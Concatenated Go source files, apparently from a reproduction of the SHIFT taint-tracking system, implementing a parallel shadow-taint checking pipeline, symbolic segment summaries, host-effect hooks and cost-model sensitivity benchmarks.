		if seg.sum != nil {
			d = p.st.applySummary(seg.sum)
		} else {
			p.Stats.DirectSegs.Add(1)
			for i := range seg.recs {
				if d = p.st.applyRec(&seg.recs[i]); d != nil {
					break
				}
			}
		}
	}
	p.appliedRecs.Add(uint64(len(seg.recs)))
	seq := seg.seq
	seg.sum = nil
	seg.recs = seg.recs[:0]
	p.mu.Lock()
	if d != nil && p.failure == nil {
		p.failure = d
		p.failed.Store(true)
	}
	p.appliedSeq = seq
	p.cond.Broadcast()
	p.mu.Unlock()
	p.free <- seg
}
