package tagpipe

import (
	"fmt"
	"sort"
	"strings"

	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/oracle"
	"shift/internal/taint"
)

// memUnit is the shadow state of one tracked unit, with the same hidden
// semantics as the lockstep oracle: a unit whose last writer bypassed
// the bitmap by design (ABI traffic, red-zone spills, tag bytes) is
// tracked but excluded from bitmap comparisons until a host write
// adopts it.
type memUnit struct {
	taint  bool
	hidden bool
}

// regShadow is one thread's shadow taint state.
type regShadow struct {
	taint [isa.NumGR]bool
	ccv   bool
}

// state is the committed shadow taint state the pipeline maintains
// asynchronously. Only the committer mutates it while records are in
// flight; the producer reads and mutates it directly at synchronization
// points (sink drains, host effects), after the drain's happens-before
// edge has been established.
type state struct {
	unit    uint64
	mem     map[uint64]memUnit
	threads map[int32]*regShadow
	// checking mirrors the oracle's strong-check soundness: it drops
	// when a second thread spawns under UnsafePreempt (the §4.4 window
	// really is observable there). Transitions happen only at drains,
	// so the committer always sees a value consistent with the records
	// it is applying.
	checking bool
	// concurrent latches once checking has stood down; it never comes
	// back within a run (mirroring the oracle's latch).
	concurrent bool
}

func newState(cfg Config) *state {
	unit := uint64(1)
	if cfg.Tags != nil {
		unit = cfg.Tags.Gran.UnitBytes()
	}
	return &state{
		unit:     unit,
		mem:      make(map[uint64]memUnit),
		threads:  make(map[int32]*regShadow),
		checking: cfg.Instrumented && cfg.Tags != nil,
	}
}

// regs returns (creating on first use) the shadow for a thread.
func (st *state) regs(tid int32) *regShadow {
	rs := st.threads[tid]
	if rs == nil {
		rs = &regShadow{}
		st.threads[tid] = rs
	}
	return rs
}

// unitOf aligns an address down to its tracked unit.
func (st *state) unitOf(addr uint64) uint64 { return addr &^ (st.unit - 1) }

// loadTaint ORs the shadow taint of every unit covering [addr, addr+size).
func (st *state) loadTaint(addr uint64, size int) bool {
	for u := st.unitOf(addr); u < st.unitOf(addr+uint64(size)-1)+st.unit; u += st.unit {
		if st.mem[u].taint {
			return true
		}
	}
	return false
}

// setMem writes the shadow taint of every unit covering the access.
func (st *state) setMem(addr uint64, size int, t, authoritative bool) {
	for u := st.unitOf(addr); u < st.unitOf(addr+uint64(size)-1)+st.unit; u += st.unit {
		st.mem[u] = memUnit{taint: t, hidden: !authoritative}
	}
}

// setReg writes a register's shadow taint, preserving r0 == clean.
func (rs *regShadow) set(r uint8, t bool) {
	if r == isa.RegZero {
		return
	}
	rs.taint[r] = t
}

// div builds a divergence for a record, reusing the oracle's report
// type so inline and decoupled findings read identically.
func div(r *rec, kind oracle.DivergenceKind, reg uint8, mach, shadow bool) *oracle.Divergence {
	return &oracle.Divergence{
		Kind:    kind,
		TID:     int(r.tid),
		PC:      int(r.pc),
		Ins:     r.op.Name(),
		Reg:     reg,
		Machine: mach,
		Shadow:  shadow,
	}
}

// applyRec interprets one record against the shadow state — the
// reference consumer, byte-for-byte the oracle's propagation rules.
// It returns the first divergence the record exposes: a broken
// mechanical NaT rule (always checked), or a NaT token on an
// original-program register the shadow cannot account for (checked only
// while the strong checks are sound).
func (st *state) applyRec(r *rec) *oracle.Divergence {
	rs := st.regs(r.tid)
	natAfter := r.flags&fNatAfter != 0
	switch r.kind {
	case rUnion2:
		rs.set(r.dest, rs.taint[r.s1] || rs.taint[r.s2])
	case rCopy:
		rs.set(r.dest, rs.taint[r.s1])
	case rClear:
		rs.set(r.dest, false)
	case rLoad:
		if r.dest != isa.RegZero && natAfter {
			return div(r, oracle.DivNaTRule, r.dest, true, false)
		}
		rs.set(r.dest, st.loadTaint(r.addr, int(r.size)))
	case rLoadSpec:
		deferred := r.flags&fDeferred != 0
		if r.dest != isa.RegZero && natAfter != deferred {
			return div(r, oracle.DivNaTRule, r.dest, natAfter, deferred)
		}
		// Deferral token == taint under the one-bit encoding (see the
		// oracle's OpLdS rule); keeps NaT/taint equality checks exact.
		t := true
		if !deferred {
			t = st.loadTaint(r.addr, int(r.size))
		}
		rs.set(r.dest, t)
	case rLoadFill:
		rs.set(r.dest, st.loadTaint(r.addr, 8))
	case rStore:
		st.setMem(r.addr, int(r.size), rs.taint[r.s2], r.flags&fAuth != 0)
	case rCmpxchg:
		if r.dest != isa.RegZero && natAfter {
			return div(r, oracle.DivNaTRule, r.dest, true, false)
		}
		old := st.loadTaint(r.addr, int(r.size))
		if r.flags&fCommitted != 0 {
			st.setMem(r.addr, int(r.size), rs.taint[r.s2], r.flags&fAuth != 0)
		}
		rs.set(r.dest, old)
	case rCcvSet:
		rs.ccv = rs.taint[r.s1]
	case rCcvGet:
		rs.set(r.dest, rs.ccv)
	case rNatOnly:
		// No taint flow; the suspect check below is the whole point.
	}
	if st.checking && natAfter &&
		r.dest >= 1 && r.dest < oracle.FirstReservedReg && !rs.taint[r.dest] {
		return div(r, oracle.DivRegister, r.dest, true, false)
	}
	return nil
}

// checkUnit compares one unit's bitmap bit against the shadow.
func (st *state) checkUnit(tags *taint.Space, m *machine.Machine, ins string, u uint64, stats *Stats) *oracle.Divergence {
	bit, err := tags.PeekUnit(u)
	if err != nil {
		// Not representable in the bitmap (red-zone/host ranges);
		// nothing to compare — same rule as the oracle.
		return nil
	}
	stats.UnitChecks.Add(1)
	if sh := st.mem[u].taint; bit != sh {
		return &oracle.Divergence{
			Kind: oracle.DivBitmap, TID: m.TID, PC: m.PC, Ins: ins,
			Addr: u, Machine: bit, Shadow: sh,
		}
	}
	return nil
}

// flushCheck is the sink-boundary register sweep: every original-program
// register's NaT bit must equal the shadow, skipping the register the
// sink instruction itself writes (its instrumentation block is still
// open, exactly as at the oracle's boundaries).
func (st *state) flushCheck(m *machine.Machine, ins string, skip int, stats *Stats) *oracle.Divergence {
	rs := st.regs(int32(m.TID))
	for r := 1; r < oracle.FirstReservedReg; r++ {
		if r == skip {
			continue
		}
		stats.RegChecks.Add(1)
		if m.NaT[r] != rs.taint[r] {
			return &oracle.Divergence{
				Kind: oracle.DivRegister, TID: m.TID, PC: m.PC, Ins: ins,
				Reg: uint8(r), Machine: m.NaT[r], Shadow: rs.taint[r],
			}
		}
	}
	return nil
}

// sweep cross-checks every non-hidden unit the shadow knows about
// against the bitmap, in address order.
func (st *state) sweep(tags *taint.Space, m *machine.Machine, ins string, stats *Stats) *oracle.Divergence {
	stats.Sweeps.Add(1)
	units := make([]uint64, 0, len(st.mem))
	for u, mu := range st.mem {
		if !mu.hidden {
			units = append(units, u)
		}
	}
	sort.Slice(units, func(i, j int) bool { return units[i] < units[j] })
	for _, u := range units {
		if d := st.checkUnit(tags, m, ins, u, stats); d != nil {
			return d
		}
	}
	return nil
}

// snapshot renders the shadow state for a divergence report.
func (st *state) snapshot(m *machine.Machine) string {
	var b strings.Builder
	rs := st.regs(int32(m.TID))
	fmt.Fprintf(&b, "  tid=%d pc=%d retired=%d cycles=%d halted=%v (decoupled; detection is sink-granular)\n",
		m.TID, m.PC, m.Retired, m.Cycles, m.Halted)
	for r := 0; r < isa.NumGR; r++ {
		if m.GR[r] == 0 && !m.NaT[r] && !rs.taint[r] {
			continue
		}
		fmt.Fprintf(&b, "  r%-3d = %#-18x nat=%-5v shadow=%v\n", r, uint64(m.GR[r]), m.NaT[r], rs.taint[r])
	}
	return b.String()
}
