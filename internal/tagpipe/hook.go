package tagpipe

import (
	"shift/internal/isa"
	"shift/internal/machine"
	"shift/internal/oracle"
)

// The producer: machine.StepHook plus the shift package's host-effect
// notifications. Everything here runs on the execution goroutine. The
// mapping from opcodes to records mirrors oracle.PostStep rule for rule;
// the difference is that the result is a 24-byte record in a ring
// instead of an immediate shadow update.

// PreStep captures the pre-state the record needs: effective addresses
// and compare values may be overwritten by the instruction itself.
func (p *Pipeline) PreStep(m *machine.Machine, ins *isa.Instruction) {
	p.squashed = ins.Qp != 0 && !m.PR[ins.Qp]
	if p.squashed {
		return
	}
	switch ins.Op {
	case isa.OpLd, isa.OpSt, isa.OpStSpill, isa.OpLdFill:
		p.addr = uint64(m.GR[ins.Src1])
	case isa.OpLdS:
		p.addr = uint64(m.GR[ins.Src1])
		// Recompute the defer decision independently of the machine,
		// exactly as the oracle does.
		p.deferred = m.NaT[ins.Src1] || m.Mem.CheckAccess(p.addr, int(ins.Size)) != nil
	case isa.OpCmpxchg:
		p.addr = uint64(m.GR[ins.Src1])
		p.ccvPre = m.CCV
		p.xchgOld = 0
		for i := 0; i < int(ins.Size); i++ {
			b, fault := m.Mem.Peek(p.addr + uint64(i))
			if fault != nil {
				break // the access will trap; PostStep never runs
			}
			p.xchgOld |= uint64(b) << (8 * i)
		}
	case isa.OpSyscall:
		p.r8 = m.GR[isa.RegRet]
		p.r8NaT = m.NaT[isa.RegRet]
	}
}

// authoritative mirrors the oracle's rule for stores the instrumentation
// pass follows with a tag-bitmap update.
func (p *Pipeline) authoritative(ins *isa.Instruction) bool {
	return p.cfg.Instrumented && !ins.ABI && ins.Class == isa.ClassOrig
}

// PostStep resolves the retired instruction into a record and emits it.
// Syscalls and taken chk.s recoveries are policy sinks and synchronize
// instead.
func (p *Pipeline) PostStep(m *machine.Machine, ins *isa.Instruction) error {
	if p.failed.Load() {
		return p.failureErr(m)
	}
	if ins.Op == isa.OpSyscall {
		return p.syscallBoundary(m, ins)
	}
	if ins.Op == isa.OpChkS {
		if !p.squashed && m.NaT[ins.Src1] {
			// Taken recovery: the policy verdict (alert vs recover) was
			// rendered during the branch — drain so it stood on fully
			// propagated state, and surface any failure it exposed.
			p.drain()
			return p.failureErr(m)
		}
		return nil
	}
	if p.squashed {
		return nil
	}

	r := rec{
		op:   ins.Op,
		dest: ins.Dest,
		s1:   ins.Src1,
		s2:   ins.Src2,
		size: ins.Size,
		tid:  int32(m.TID),
		pc:   int32(m.PC),
	}
	switch ins.Op {
	case isa.OpAdd, isa.OpAnd, isa.OpAndcm, isa.OpOr,
		isa.OpShl, isa.OpShr, isa.OpSar, isa.OpMul, isa.OpDiv, isa.OpRem:
		r.kind = rUnion2

	case isa.OpSub, isa.OpXor:
		// Self-clearing idioms: the result is data-independent.
		if ins.Src1 == ins.Src2 {
			r.kind = rClear
		} else {
			r.kind = rUnion2
		}

	case isa.OpAddi, isa.OpAndi, isa.OpOri, isa.OpXori,
		isa.OpShli, isa.OpShri, isa.OpSari, isa.OpMov:
		r.kind = rCopy

	case isa.OpMovl, isa.OpMovFromBr, isa.OpMovFromUnat:
		r.kind = rClear

	case isa.OpLd:
		r.kind = rLoad
		r.addr = p.addr

	case isa.OpLdS:
		r.kind = rLoadSpec
		r.addr = p.addr
		if p.deferred {
			r.flags |= fDeferred
		}

	case isa.OpLdFill:
		r.kind = rLoadFill
		r.addr = p.addr
		r.size = 8

	case isa.OpSt:
		r.kind = rStore
		r.addr = p.addr

	case isa.OpStSpill:
		r.kind = rStore
		r.addr = p.addr
		r.size = 8

	case isa.OpCmpxchg:
		r.kind = rCmpxchg
		r.addr = p.addr
		if p.xchgOld == p.ccvPre {
			r.flags |= fCommitted
		}

	case isa.OpMovToCcv:
		r.kind = rCcvSet

	case isa.OpMovFromCcv:
		r.kind = rCcvGet

	case isa.OpSetNat, isa.OpClrNat:
		r.kind = rNatOnly

	default:
		// Branches, compares, tnat, nop: no taint flow and no written GR.
		return nil
	}
	switch r.kind {
	case rStore, rCmpxchg:
		if p.authoritative(ins) {
			r.flags |= fAuth
		}
	}
	if r.kind != rStore && r.kind != rCcvSet &&
		r.dest != isa.RegZero && m.NaT[r.dest] {
		r.flags |= fNatAfter
	}
	p.emit(r)
	return nil
}

// syscallBoundary is the main sink: drain the ring, run the boundary
// checks the oracle runs at a syscall (register sweep skipping r8, full
// bitmap sweep for non-squashed calls), then apply the syscall's own
// r8 propagation rule directly to the committed state.
func (p *Pipeline) syscallBoundary(m *machine.Machine, ins *isa.Instruction) error {
	p.drain()
	if err := p.failureErr(m); err != nil {
		return err
	}
	if p.st.checking && ins.Class == isa.ClassOrig {
		if d := p.st.flushCheck(m, ins.String(), int(isa.RegRet), &p.Stats); d != nil {
			return p.latchErr(m, d)
		}
		if !p.squashed {
			if d := p.st.sweep(p.cfg.Tags, m, ins.String(), &p.Stats); d != nil {
				return p.latchErr(m, d)
			}
		}
	}
	if p.squashed {
		return nil
	}
	rs := p.st.regs(int32(m.TID))
	// The OS wrote its result (if any) through r8 with NaT clear; a
	// syscall that left r8 alone preserves taint.
	if m.GR[isa.RegRet] != p.r8 || m.NaT[isa.RegRet] != p.r8NaT {
		rs.taint[isa.RegRet] = false
	}
	if p.st.checking && m.NaT[isa.RegRet] && !rs.taint[isa.RegRet] {
		return p.latchErr(m, &oracle.Divergence{
			Kind: oracle.DivRegister, TID: m.TID, PC: m.PC, Ins: ins.String(),
			Reg: isa.RegRet, Machine: true, Shadow: false,
		})
	}
	return nil
}

// Host effects are synchronous: the OS model touches guest state
// mid-syscall, so the pipeline drains and applies the effect directly to
// the committed shadow — exactly where it falls in retirement order.

// HostWrite records that the OS wrote n bytes of host data at addr.
// Tags are sticky under SHIFT's OS model; a hidden unit the OS
// overwrites adopts its bitmap bit once and is checked from then on.
func (p *Pipeline) HostWrite(addr uint64, n int) {
	if n <= 0 {
		return
	}
	p.drain()
	st := p.st
	for u := st.unitOf(addr); u < st.unitOf(addr+uint64(n)-1)+st.unit; u += st.unit {
		mu := st.mem[u]
		if mu.hidden && p.cfg.Tags != nil {
			if bit, err := p.cfg.Tags.PeekUnit(u); err == nil {
				mu = memUnit{taint: bit}
			}
		}
		st.mem[u] = mu
	}
}

// HostTaint records that the OS marked [addr, addr+n) as a taint source.
func (p *Pipeline) HostTaint(addr, n uint64) {
	if n == 0 {
		return
	}
	p.drain()
	st := p.st
	for u := st.unitOf(addr); u < st.unitOf(addr+n-1)+st.unit; u += st.unit {
		st.mem[u] = memUnit{taint: true}
	}
}

// HostUntaint records that the OS explicitly cleared tags over
// [addr, addr+n).
func (p *Pipeline) HostUntaint(addr, n uint64) {
	if n == 0 {
		return
	}
	p.drain()
	st := p.st
	for u := st.unitOf(addr); u < st.unitOf(addr+n-1)+st.unit; u += st.unit {
		st.mem[u] = memUnit{taint: false}
	}
}

// OnSpawn records a thread creation: the child inherits its argument
// taint from the parent's argument slot. Under UnsafePreempt the strong
// checks stand down from the first spawn, mirroring the oracle.
func (p *Pipeline) OnSpawn(parentTID, childTID int) {
	p.drain()
	parent := p.st.regs(int32(parentTID))
	child := p.st.regs(int32(childTID))
	child.taint[isa.RegArg0] = parent.taint[isa.RegArg0+1]
	if p.cfg.UnsafePreempt {
		p.st.concurrent = true
		p.st.checking = false
	}
}

// SyncSink implements the shift package's sink synchronization: a
// policy check is about to render a verdict, so the ring must be empty.
func (p *Pipeline) SyncSink(m *machine.Machine, sink string) error {
	p.drain()
	return p.failureErr(m)
}
