package tagpipe

import "shift/internal/isa"

// recKind is the semantic class of one retirement-log record. The
// producer resolves each retired instruction into one of these at
// emission time, so the consumers never re-decode opcodes: a record is
// the instruction's taint-transfer function plus the pre-state the
// lockstep oracle would have captured (effective address, defer
// decision, commit outcome), flattened into a fixed-size struct.
type recKind uint8

const (
	// rUnion2: dest's taint becomes taint(s1) | taint(s2) (two-source
	// ALU ops; the self-clearing xor/sub idiom is resolved to rClear by
	// the producer, mirroring the oracle's special case).
	rUnion2 recKind = iota
	// rCopy: dest's taint becomes taint(s1) (immediate ALU forms, mov).
	rCopy
	// rClear: dest's taint becomes clean (movl, mov-from-br/unat,
	// self-clearing xor/sub).
	rClear
	// rLoad: a plain load; dest's taint is the OR over the accessed
	// units. Carries the fNatAfter bit for the mechanical rule check (a
	// plain load must leave NaT clear).
	rLoad
	// rLoadSpec: a speculative load; fDeferred carries the producer's
	// independent recomputation of the defer decision, fNatAfter what
	// the machine actually did.
	rLoadSpec
	// rLoadFill: ld8.fill; taint comes straight from the spilled unit
	// (the UNAT mechanics are deliberately not modelled, as in the
	// oracle).
	rLoadFill
	// rStore: st/st8.spill; the accessed units take taint(s2). fAuth
	// marks an authoritative (original-program, instrumented) store
	// whose units the bitmap is expected to agree on at the next sweep.
	rStore
	// rCmpxchg: dest takes the location's old taint; when fCommitted is
	// set the exchange also stores taint(s2) into the units.
	rCmpxchg
	// rCcvSet / rCcvGet: the ar.ccv shadow taint.
	rCcvSet
	rCcvGet
	// rNatOnly: no taint flow (setnat/clrnat); the record exists only so
	// the NaT-implies-taint suspect check runs at the right stream
	// position.
	rNatOnly
)

// Record flags.
const (
	fNatAfter  uint8 = 1 << iota // machine NaT bit of dest after retirement
	fDeferred                    // ld.s: recomputed defer decision
	fCommitted                   // cmpxchg: the compare matched, the store happened
	fAuth                        // store is authoritative (tag-update expected)
)

// rec is one retirement-log record: 24 bytes, no pointers, so segments
// recycle with zero garbage.
type rec struct {
	kind  recKind
	op    isa.Opcode // for divergence reports only
	flags uint8
	dest  uint8
	s1    uint8
	s2    uint8
	size  uint8
	_     uint8
	tid   int32
	pc    int32
	addr  uint64
}

// segment is one ring slot: a batch of records stamped with a commit
// sequence number. Segments cycle producer → worker → committer → free.
type segment struct {
	seq  uint64
	recs []rec
	// sum is the worker's symbolic summary; nil means the committer
	// applies the raw records in order (the reference path, used for
	// single-worker pipelines and for segments whose summary overflowed).
	sum *summary
}
