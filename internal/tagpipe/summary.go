package tagpipe

import "shift/internal/oracle"

// The symbolic summary machinery: a worker turns a segment of records
// into a transfer function over taint state — for every location the
// segment writes, its final taint expressed as a function of the
// segment's *input* state — so N workers can summarize N segments
// concurrently while a single committer applies the summaries in
// retirement order. This is the parallel-prefix decomposition of an
// inherently sequential dataflow: composition happens at the committer,
// which only evaluates (cheap), never re-propagates (expensive).

// locKind distinguishes the shadow location spaces.
type locKind uint8

const (
	locReg locKind = iota // one thread's general register
	locCcv                // one thread's ar.ccv shadow
	locMem                // one tracked memory unit
)

// loc names one shadow taint location. Comparable, so it keys the
// summary maps directly.
type loc struct {
	kind locKind
	tid  int32
	reg  uint8
	unit uint64
}

// maxDeps bounds a symbolic value's dependency list. A value that would
// exceed it makes the whole segment fall back to direct application —
// correctness never depends on the symbolic form.
const maxDeps = 12

// sym is a symbolic taint value: definitely tainted (t), or the OR of
// the segment-input taints of deps (empty deps = definitely clean).
type sym struct {
	t    bool
	deps []loc
}

// or returns a ∨ b, reporting overflow of the dependency bound.
func (a sym) or(b sym) (sym, bool) {
	if a.t || b.t {
		return sym{t: true}, true
	}
	out := sym{deps: make([]loc, 0, len(a.deps)+len(b.deps))}
	out.deps = append(out.deps, a.deps...)
	for _, d := range b.deps {
		dup := false
		for _, e := range out.deps {
			if e == d {
				dup = true
				break
			}
		}
		if !dup {
			out.deps = append(out.deps, d)
		}
	}
	if len(out.deps) > maxDeps {
		return sym{}, false
	}
	return out, true
}

// outVal is one summarized output: the location's final symbolic taint
// and, for memory units, the hidden flag its last writer left.
type outVal struct {
	v      sym
	hidden bool
	isMem  bool
}

// check is one deferred correctness check, pinned to its record index so
// the committer reproduces the exact first-divergence order of the
// direct path.
type check struct {
	idx int
	// d is an unconditional failure (a broken mechanical NaT rule) found
	// during summarization; nil for conditional suspects.
	d *oracle.Divergence
	// For conditional suspects (NaT set on an original register): the
	// register's symbolic taint right after the record; the check fails
	// when it evaluates clean.
	val     sym
	suspect *rec
}

// summary is a worker's product for one segment.
type summary struct {
	outs   map[loc]outVal
	checks []check
}

// summarize computes seg's transfer function over units of the given
// size. ok is false when any value overflowed the dependency bound, in
// which case the committer applies the raw records instead.
func summarize(seg *segment, unit uint64) (s *summary, ok bool) {
	defs := make(map[loc]outVal, len(seg.recs)/2+1)
	s = &summary{}

	resolve := func(l loc) sym {
		if v, have := defs[l]; have {
			return v.v
		}
		return sym{deps: []loc{l}}
	}
	regOf := func(tid int32, r uint8) sym {
		if r == 0 {
			return sym{}
		}
		return resolve(loc{kind: locReg, tid: tid, reg: r})
	}
	setReg := func(tid int32, r uint8, v sym) {
		if r == 0 {
			return
		}
		defs[loc{kind: locReg, tid: tid, reg: r}] = outVal{v: v}
	}

	for i := range seg.recs {
		r := &seg.recs[i]
		natAfter := r.flags&fNatAfter != 0

		loadSym := func(addr uint64, size int) (sym, bool) {
			v := sym{}
			for _, u := range unitsOf(addr, size, unit) {
				var o bool
				v, o = v.or(resolve(loc{kind: locMem, unit: u}))
				if !o {
					return sym{}, false
				}
			}
			return v, true
		}
		setMemSym := func(addr uint64, size int, v sym, auth bool) {
			for _, u := range unitsOf(addr, size, unit) {
				defs[loc{kind: locMem, unit: u}] = outVal{v: v, hidden: !auth, isMem: true}
			}
		}

		switch r.kind {
		case rUnion2:
			v, o := regOf(r.tid, r.s1).or(regOf(r.tid, r.s2))
			if !o {
				return nil, false
			}
			setReg(r.tid, r.dest, v)
		case rCopy:
			setReg(r.tid, r.dest, regOf(r.tid, r.s1))
		case rClear:
			setReg(r.tid, r.dest, sym{})
		case rLoad:
			if r.dest != 0 && natAfter {
				s.checks = append(s.checks, check{idx: i, d: div(r, oracle.DivNaTRule, r.dest, true, false)})
				return s, true // nothing after the failure can be observed
			}
			v, o := loadSym(r.addr, int(r.size))
			if !o {
				return nil, false
			}
			setReg(r.tid, r.dest, v)
		case rLoadSpec:
			deferred := r.flags&fDeferred != 0
			if r.dest != 0 && natAfter != deferred {
				s.checks = append(s.checks, check{idx: i, d: div(r, oracle.DivNaTRule, r.dest, natAfter, deferred)})
				return s, true
			}
			// Deferral token == taint (see the oracle's OpLdS rule).
			v := sym{t: true}
			if !deferred {
				var o bool
				v, o = loadSym(r.addr, int(r.size))
				if !o {
					return nil, false
				}
			}
			setReg(r.tid, r.dest, v)
		case rLoadFill:
			v, o := loadSym(r.addr, 8)
			if !o {
				return nil, false
			}
			setReg(r.tid, r.dest, v)
		case rStore:
			setMemSym(r.addr, int(r.size), regOf(r.tid, r.s2), r.flags&fAuth != 0)
		case rCmpxchg:
			if r.dest != 0 && natAfter {
				s.checks = append(s.checks, check{idx: i, d: div(r, oracle.DivNaTRule, r.dest, true, false)})
				return s, true
			}
			old, o := loadSym(r.addr, int(r.size))
			if !o {
				return nil, false
			}
			if r.flags&fCommitted != 0 {
				setMemSym(r.addr, int(r.size), regOf(r.tid, r.s2), r.flags&fAuth != 0)
			}
			setReg(r.tid, r.dest, old)
		case rCcvSet:
			defs[loc{kind: locCcv, tid: r.tid}] = outVal{v: regOf(r.tid, r.s1)}
		case rCcvGet:
			setReg(r.tid, r.dest, resolve(loc{kind: locCcv, tid: r.tid}))
		case rNatOnly:
			// No propagation; suspect check below.
		}

		if natAfter && r.dest >= 1 && r.dest < oracle.FirstReservedReg {
			s.checks = append(s.checks, check{idx: i, val: regOf(r.tid, r.dest), suspect: r})
		}
	}
	s.outs = defs
	return s, true
}

// unitsOf lists the tracked units covering [addr, addr+size).
func unitsOf(addr uint64, size int, unit uint64) []uint64 {
	first := addr &^ (unit - 1)
	last := (addr + uint64(size) - 1) &^ (unit - 1)
	units := make([]uint64, 0, (last-first)/unit+1)
	for u := first; ; u += unit {
		units = append(units, u)
		if u == last {
			break
		}
	}
	return units
}

// eval resolves a symbolic value against the committed state.
func (st *state) eval(v sym) bool {
	if v.t {
		return true
	}
	for _, d := range v.deps {
		switch d.kind {
		case locReg:
			if st.regs(d.tid).taint[d.reg] {
				return true
			}
		case locCcv:
			if st.regs(d.tid).ccv {
				return true
			}
		case locMem:
			if st.mem[d.unit].taint {
				return true
			}
		}
	}
	return false
}

// applySummary composes one summary onto the committed state: run the
// deferred checks in record order (first divergence wins, exactly as the
// direct path would), then evaluate every output against the segment's
// input state and store them two-phase.
func (st *state) applySummary(s *summary) *oracle.Divergence {
	for i := range s.checks {
		c := &s.checks[i]
		if c.d != nil {
			return c.d
		}
		if st.checking && !st.eval(c.val) {
			return div(c.suspect, oracle.DivRegister, c.suspect.dest, true, false)
		}
	}
	type store struct {
		l loc
		o outVal
		t bool
	}
	resolved := make([]store, 0, len(s.outs))
	for l, o := range s.outs {
		resolved = append(resolved, store{l: l, o: o, t: st.eval(o.v)})
	}
	for _, r := range resolved {
		switch r.l.kind {
		case locReg:
			st.regs(r.l.tid).set(r.l.reg, r.t)
		case locCcv:
			st.regs(r.l.tid).ccv = r.t
		case locMem:
			st.mem[r.l.unit] = memUnit{taint: r.t, hidden: r.o.hidden}
		}
	}
	return nil
}
