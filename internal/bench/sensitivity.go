package bench

import (
	"fmt"
	"io"

	"shift/internal/machine"
	"shift/internal/shift"
	"shift/internal/taint"
	"shift/internal/workload"
)

// Sensitivity analysis: the reproduction's absolute slowdowns depend on
// the cycle cost model, but the paper's *orderings* should not. This
// experiment re-measures the byte/word/enhanced triple under deliberately
// skewed cost models and reports whether every ordering claim survives.

// CostModel names a cost-model variant.
type CostModel struct {
	Name  string
	Costs machine.Costs
}

// SensitivityModels returns the sweep: the default model plus variants
// that stress each lever the instrumentation touches.
func SensitivityModels() []CostModel {
	mk := func(name string, f func(*machine.Costs)) CostModel {
		c := machine.DefaultCosts()
		f(&c)
		return CostModel{Name: name, Costs: c}
	}
	return []CostModel{
		mk("default", func(c *machine.Costs) {}),
		mk("slow-loads", func(c *machine.Costs) { c.Ld = 4; c.LdMiss = 40 }),
		mk("fast-loads", func(c *machine.Costs) { c.Ld = 1; c.LdMiss = 0 }),
		mk("cheap-movl", func(c *machine.Costs) { c.Movl = 1 }),
		mk("dear-spill", func(c *machine.Costs) { c.SpillFill = 6 }),
		mk("dear-branch", func(c *machine.Costs) { c.Br = 3 }),
		mk("free-defer", func(c *machine.Costs) { c.Defer = 0 }),
	}
}

// SensitivityRow is one cost model's result for one benchmark.
type SensitivityRow struct {
	Model     string
	Bench     string
	Byte      float64
	Word      float64
	Enhanced  float64 // byte with both enhancement instructions
	Orderings bool    // byte >= word > enhanced and all > 1
}

// Sensitivity runs the sweep over the named benchmarks (all when empty),
// one (benchmark, cost model) point per worker-pool cell.
func Sensitivity(scaleDiv int, benchNames []string) ([]SensitivityRow, error) {
	wanted := map[string]bool{}
	for _, n := range benchNames {
		wanted[n] = true
	}
	var benches []*workload.Benchmark
	for _, b := range workload.All() {
		if len(wanted) == 0 || wanted[b.Name] {
			benches = append(benches, b)
		}
	}
	models := SensitivityModels()
	rows := make([]SensitivityRow, len(benches)*len(models))
	err := parallelFor(len(rows), func(i int) error {
		b := benches[i/len(models)]
		scale := b.RefScale / scaleDiv
		if scale < 64 {
			scale = 64
		}
		var err error
		rows[i], err = sensitivityPoint(b, scale, models[i%len(models)])
		return err
	})
	if err != nil {
		return nil, err
	}
	return rows, nil
}

// sensitivityPoint measures one (benchmark, cost model) cell.
func sensitivityPoint(b *workload.Benchmark, scale int, cm CostModel) (SensitivityRow, error) {
	costs := cm.Costs
	run := func(opt shift.Options) (uint64, error) {
		opt.Costs = &costs
		res, err := shift.BuildAndRun(
			[]shift.Source{{Name: b.Name, Text: b.Source}}, b.World(scale), opt)
		if err != nil {
			return 0, err
		}
		if res.Trap != nil || res.Alert != nil {
			return 0, fmt.Errorf("%s/%s: trap=%v alert=%v", b.Name, cm.Name, res.Trap, res.Alert)
		}
		return res.Cycles, nil
	}

	confB := b.Config()
	confB.Granularity = taint.Byte
	confW := b.Config()
	confW.Granularity = taint.Word

	base, err := run(shift.Options{Policy: confB})
	if err != nil {
		return SensitivityRow{}, err
	}
	byteC, err := run(shift.Options{Instrument: true, Policy: confB})
	if err != nil {
		return SensitivityRow{}, err
	}
	wordC, err := run(shift.Options{Instrument: true, Policy: confW})
	if err != nil {
		return SensitivityRow{}, err
	}
	enhC, err := run(shift.Options{Instrument: true, Policy: confB,
		Features: machine.Features{SetClrNaT: true, NaTAwareCmp: true}})
	if err != nil {
		return SensitivityRow{}, err
	}

	row := SensitivityRow{
		Model:    cm.Name,
		Bench:    b.Name,
		Byte:     float64(byteC) / float64(base),
		Word:     float64(wordC) / float64(base),
		Enhanced: float64(enhC) / float64(base),
	}
	row.Orderings = row.Byte >= row.Word && row.Word > row.Enhanced && row.Enhanced > 1
	return row, nil
}

// PrintSensitivity renders the sweep.
func PrintSensitivity(w io.Writer, rows []SensitivityRow) {
	fmt.Fprintln(w, "Cost-model sensitivity: do the paper's orderings survive skewed models?")
	fmt.Fprintf(w, "%-10s %-12s %8s %8s %10s %10s\n", "bench", "model", "byte", "word", "enhanced", "orderings")
	for _, r := range rows {
		ok := "hold"
		if !r.Orderings {
			ok = "VIOLATED"
		}
		fmt.Fprintf(w, "%-10s %-12s %7.2fX %7.2fX %9.2fX %10s\n",
			r.Bench, r.Model, r.Byte, r.Word, r.Enhanced, ok)
	}
}
