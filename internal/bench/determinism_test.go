package bench

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

// The determinism golden test pins the simulator's observable numbers —
// per-run cycle counts, retired-instruction counts, and per-cost-class
// breakdowns — for the Figure 7 and Figure 8 configurations at a reduced
// scale. The fast-path engine (software TLB, bulk memory ops) and the
// parallel experiment harness are pure performance work: every number
// that feeds an EXPERIMENTS.md table must be bit-identical to the
// serial, pre-TLB implementation that produced this golden file.
//
// Regenerate (only when a change is *supposed* to move the numbers):
//
//	go test ./internal/bench -run TestDeterminismGolden -update

var updateGolden = flag.Bool("update", false, "rewrite the determinism golden file")

// goldenScaleDiv shrinks inputs so the golden suite stays fast; every
// benchmark clamps to its minimum scale, which still exercises the whole
// build-instrument-run pipeline.
